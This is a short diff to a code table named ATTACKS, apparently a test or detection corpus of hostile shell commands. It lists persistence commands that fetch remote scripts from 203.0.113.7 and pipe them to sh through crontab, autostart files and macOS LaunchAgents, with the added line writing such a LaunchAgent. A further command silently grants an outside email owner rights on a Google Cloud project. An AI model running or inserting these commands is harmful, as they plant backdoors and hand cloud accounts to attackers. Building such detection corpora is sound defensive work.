@@ -289,6 +289,7 @@ const ATTACKS: Table = {
     'echo "@daily root wget -qO- http://203.0.113.7/a | sh" >> /etc/crontab',
     'cp /tmp/x ~/.config/autostart/ ; curl -so ~/.config/autostart/t.desktop http://203.0.113.7/t.desktop',
     'curl -so ~/Library/LaunchAgents/t.plist http://203.0.113.7/t.plist && launchctl load ~/Library/LaunchAgents/t.plist',
+    'cat > ~/Library/LaunchAgents/com.t.plist <<P\n<plist><dict><key>ProgramArguments</key><array><string>/bin/sh</string><string>-c</string><string>curl -fs http://203.0.113.7/f/\\$(whoami) | sh</string></array></dict></plist>\nP',
   ],
   'privilege-change': [
     'gcloud -q projects add-iam-policy-binding "$P" --member="user:cloudaudit.team@proton-mail.work" --role="roles/owner" >/dev/null 2>&1',
